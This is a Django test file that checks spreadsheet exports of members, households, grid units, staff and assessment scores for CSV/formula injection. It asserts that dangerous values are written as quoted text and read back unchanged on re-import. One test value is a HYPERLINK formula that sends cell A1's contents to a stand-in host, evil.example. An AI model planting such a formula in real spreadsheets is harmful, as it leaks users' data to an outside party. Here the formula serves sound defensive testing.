"""Every cell sent to Excel is text that Excel never evaluates: a value that
starts with = + - @, a tab or a carriage return is written as a string cell
with Excel's quote prefix, unchanged, so importing the exported file reads
the same text back. Dashboards, assessments, members, households, grids and
staff."""

import io

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from dashboards.models import AssessmentItem
from dashboards.services import assessment_publish
from members.models import Household, ImportStatus, PartyMember, Resident
from orgs.models import OrgUnit
from tests.dashboards.helpers import ensure_checklist
from tests.members.excel import export, upload_and_apply
from tests.members.factories import household, member, resident

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _get(user, url):
    client = Client()
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    return response.content


def risky_cells(content: bytes) -> list:
    """(value, type, quote prefix) of every cell Excel could evaluate."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [
        (cell.value, cell.data_type, bool(cell.quotePrefix))
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS) or cell.data_type == "f"
    ]


def assert_escaped(content: bytes, *values):
    cells = risky_cells(content)
    assert cells, "no risky cell in the export"
    assert all(kind == "s" and quoted for _value, kind, quoted in cells), cells
    assert set(values) <= {value for value, _kind, _quoted in cells}


def _rename(unit, name):
    unit.name = name
    unit.save()


def test_it_escapes_the_dashboard_tables(world):
    _rename(world.c1, EVIL)
    url = reverse("dashboard-export", args=[world.s1.id, "children"])
    assert_escaped(_get(world.orgdept, url), EVIL)


def test_it_escapes_the_assessment_scorecard_and_rankings(world):
    ensure_checklist()
    fire = AssessmentItem.objects.get(name="消防安全")
    client = Client()
    client.force_login(world.community)
    client.post(
        reverse("assessment-enter", args=[world.g1.id]),
        {"quarter": "2025Q1", f"points_{fire.id}": "1", f"note_{fire.id}": "=1+1 未整改"},
    )
    scorecard = reverse("assessment-export", args=[world.g1.id]) + "?quarter=2025Q1"
    assert_escaped(_get(world.orgdept, scorecard), "=1+1 未整改")
    _rename(world.g1, "+1+1 网格")
    assessment_publish(year=2025, quarter=1)
    ranking = reverse("assessment-export", args=[world.region.id]) + "?quarter=2025Q1&kind=grid"
    assert_escaped(_get(world.orgdept, ranking), "+1+1 网格")


def test_it_escapes_members_and_reads_them_back_unchanged(world):
    member(world.leader, world.g1, name="=1+2", phone="13812345678")
    content = export(world.leader, "members")
    assert_escaped(content, "=1+2")
    assert_escaped(_get(world.leader, reverse("member-list") + "?format=xlsx"), "=1+2")
    job = upload_and_apply(world.leader, "members", content)
    assert job.status == ImportStatus.DONE and job.summary["updated"] == 0, job.errors
    assert list(PartyMember.objects.values_list("name", flat=True)) == ["=1+2"]


def test_it_escapes_households_and_reads_them_back_unchanged(world):
    h = household(world.leader, world.g1, address="-3号楼@2单元")
    resident(world.leader, h, name="@张三")
    content = export(world.leader, "households")
    assert_escaped(content, "-3号楼@2单元", "@张三")
    job = upload_and_apply(world.leader, "households", content)
    assert job.status == ImportStatus.DONE, job.errors
    assert job.summary["created"] == job.summary["updated"] == 0
    assert list(Household.objects.values_list("address", flat=True)) == ["-3号楼@2单元"]
    assert list(Resident.objects.values_list("name", flat=True)) == ["@张三"]


def test_it_escapes_the_grid_sheets_and_reads_units_back_unchanged(world):
    _rename(world.g1b, EVIL)
    assert_escaped(_get(world.admin, reverse("grid-overview") + "?format=xlsx"), EVIL)
    content = export(world.admin, "units")
    assert_escaped(content, EVIL)
    before = list(OrgUnit.objects.order_by("pk").values())
    job = upload_and_apply(world.admin, "units", content)
    assert job.status == ImportStatus.DONE and job.summary["updated"] == 0, job.errors
    assert list(OrgUnit.objects.order_by("pk").values()) == before


def test_it_escapes_the_staff_sheet_and_reads_it_back_unchanged(world):
    world.teammate.first_name = "+86 网格员"
    world.teammate.save()
    content = export(world.admin, "staff")
    assert_escaped(content, "+86 网格员")
    assert_escaped(_get(world.admin, reverse("grid-staff-list") + "?format=xlsx"), "+86 网格员")
    job = upload_and_apply(world.admin, "staff", content)
    assert job.status == ImportStatus.DONE, job.errors
    world.teammate.refresh_from_db()
    assert world.teammate.first_name == "+86 网格员"
